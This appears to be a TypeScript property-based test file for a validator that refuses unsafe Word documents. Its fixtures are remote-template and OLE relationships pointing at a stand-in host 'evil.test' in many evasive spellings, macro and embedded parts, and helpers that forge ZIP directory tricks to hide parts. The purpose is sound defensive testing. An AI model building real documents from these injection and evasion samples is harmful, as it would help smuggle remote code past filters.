import fc from 'fast-check'
import { expect, test } from 'vitest'
import { type RefusalReason, refusals } from '#domain/records/refusals.ts'
import { docxWith } from '#testing/craftedFiles.ts'
import { docxSpelled, OFFICE, type Relationship, STRICT } from '#testing/evasiveDocx.ts'
import { spelling } from '#testing/evasivePdf.ts'
import { runs } from '#testing/properties.ts'
import { taken } from '#testing/takenFile.ts'

const hostileRelationships: [Relationship, RefusalReason][] = [
  ...[OFFICE, STRICT].flatMap((space): [Relationship, RefusalReason][] =>
    ['attachedTemplate', 'oleObject', 'frame', 'subDocument', 'package'].map((kind) => [
      { type: `${space}${kind}`, target: 'https://evil.test/a.dotm', isExternal: true },
      'remote',
    ]),
  ),
  ...[
    'HTTP://evil.test/a',
    'file://evil.test/a.dotm',
    'file:///\\\\evil.test\\a.dotm',
    'file:////evil.test/a.dotm',
    '\\\\evil.test\\a.dotm',
    '//evil.test/a.dotm',
    '%68ttps://evil.test/a',
    'ht\ttps://evil.test/a',
    'mhtml:https://evil.test/a',
  ].map((target): [Relationship, RefusalReason] => [
    { type: `${OFFICE}attachedTemplate`, target, isExternal: true },
    'remote',
  ]),
  [{ type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'a.bin' }, 'macros'],
  [{ type: `${OFFICE}image`, target: 'file://evil.test/a.png', isExternal: true }, 'remote'],
  [{ type: `${OFFICE}mailMergeSource`, target: '\\\\evil.test\\a.csv', isExternal: true }, 'remote'],
  [{ type: `${OFFICE}oleObject`, target: '\\??\\UNC\\evil.test\\a', isExternal: true }, 'remote'],
  [{ type: `${OFFICE}aFChunk`, target: 'media/letter.rtf' }, 'embedded'],
  [{ type: `${OFFICE}oleObject`, target: 'media/picture.bin' }, 'embedded'],
  [{ type: `${OFFICE}package`, target: 'media/letter.docx' }, 'embedded'],
  [{ type: `${OFFICE}control`, target: 'media/control.xml' }, 'embedded'],
]

const harmlessRelationships: Relationship[] = [
  { type: `${OFFICE}hyperlink`, target: 'https://clinic.test/', isExternal: true },
  { type: `${OFFICE}image`, target: 'media/image1.png' },
  { type: `${OFFICE}attachedTemplate`, target: 'file:///C:\\Users\\Sam\\Normal.dotm', isExternal: true },
  { type: `${OFFICE}attachedTemplate`, target: 'Normal.dotm', isExternal: true },
  { type: `${OFFICE}package`, target: '../embeddings/figures.xlsx' },
]

test('however it is spelled, a Word document that may not be kept is refused', () =>
  fc.assert(
    fc.asyncProperty(fc.constantFrom(...hostileRelationships), spelling, async ([one, reason], choose) => {
      await expect(taken(await docxSpelled(one, choose))).rejects.toThrow(refusals[reason])
    }),
    { numRuns: runs(200) },
  ))

test('however it is spelled, a harmless Word document is kept as it is', () =>
  fc.assert(
    fc.asyncProperty(fc.constantFrom(...harmlessRelationships), spelling, async (one, choose) => {
      const docx = await docxSpelled(one, choose)
      expect(await taken(docx)).toMatchObject({ removed: [], kept: docx })
    }),
    { numRuns: runs(100) },
  ))

const remote = `Type="${OFFICE}attachedTemplate" TargetMode="External" Target`
const settings = (xml: string | Buffer) => docxWith({ 'word/_rels/settings.xml.rels': xml })
const related = (attributes: string) => `<Relationships><Relationship Id="a" ${attributes}/></Relationships>`
const typed = (types: string) => docxWith({}, { types })

const evasiveDocuments: [string, Buffer, RefusalReason][] = [
  ['an escaped target', await settings(related(`${remote}="&#104;ttps://evil.test/a"`)), 'remote'],
  [
    'a target in UTF-16',
    await settings(Buffer.from(`\ufeff${related(`${remote}="https://evil.test/a"`)}`, 'utf16le')),
    'remote',
  ],
  [
    'a greater-than sign in front of its target',
    await settings(related(`Alt=">" ${remote}="https://evil.test/a"`)),
    'remote',
  ],
  [
    'a prefix',
    await settings(related(`${remote}="https://evil.test/a"`).replaceAll(/(<\/?)R/g, '$1p:R')),
    'remote',
  ],
  [
    'entities of its own',
    await settings(`<!DOCTYPE a [<!ENTITY b "https:">]>${related(`${remote}="&b;//evil.test"`)}`),
    'disguised',
  ],
  [
    'an unusual encoding',
    await settings(`<?xml version="1.0" encoding="UTF-7"?>${related(`${remote}="+AGg-"`)}`),
    'disguised',
  ],
  [
    'an encoding that is not its own',
    await settings(Buffer.from(`\ufeff<?xml version="1.0" encoding="utf-8"?><a/>`, 'utf16le')),
    'disguised',
  ],
  [
    'XML that is not well-formed',
    await settings(`<Relationships><Relationship ${remote}="https://evil.test/a">`),
    'broken',
  ],
  [
    'escaped kinds of parts',
    await typed('<Override ContentType="application/vnd.ms-office.&#118;baProject"/>'),
    'macros',
  ],
  [
    'two parts of one name',
    await docxWith({ 'word/settings.xml': '<a/>', 'word/Settings.xml': '<b/>' }),
    'disguised',
  ],
  ['a part in pieces', await docxWith({ 'word/settings.xml/[0].piece': '<a/>' }), 'disguised'],
  ['something between its parts', hiddenBetweenParts(await docxWith({})), 'disguised'],
  ['another name in front of a part', renamedInPlace(await docxWith({ 'word/a.bin': 'x' })), 'disguised'],
  [
    'a workbook whose macros have another name',
    await docxWith({
      'word/embeddings/a.xlsx': await typed('<Override ContentType="application/vnd.ms-office.vbaProject"/>'),
    }),
    'macros',
  ],
]

test.for(evasiveDocuments)('a Word document with %s is refused', async ([, content, reason]) => {
  await expect(taken(content)).rejects.toThrow(refusals[reason])
})

/** A second local part that the directory does not name. */
function hiddenBetweenParts(docx: Buffer): Buffer {
  const directory = docx.readUInt32LE(docx.length - 6)
  const first = docx.indexOf('PK\u0003\u0004', 4)
  const hidden = docx.subarray(0, first)
  const end = Buffer.from(docx.subarray(-22))
  end.writeUInt32LE(directory + hidden.length, 16)
  return Buffer.concat([docx.subarray(0, directory), hidden, docx.subarray(directory, -22), end])
}

/** The part has one name in front of its data and another in the directory. */
function renamedInPlace(docx: Buffer): Buffer {
  const changed = Buffer.from(docx)
  changed.write('word/b.bin', changed.indexOf('word/a.bin'))
  return changed
}
